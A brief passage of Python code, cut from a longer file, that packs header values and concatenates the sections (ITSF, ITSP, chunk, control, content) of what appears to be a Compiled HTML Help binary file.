            struct.pack("<QQQQQ", 0x60, 0x18, 0x78, 0x54, cs0))
    return itsf + hs0 + itsp + chunk + control + span + content
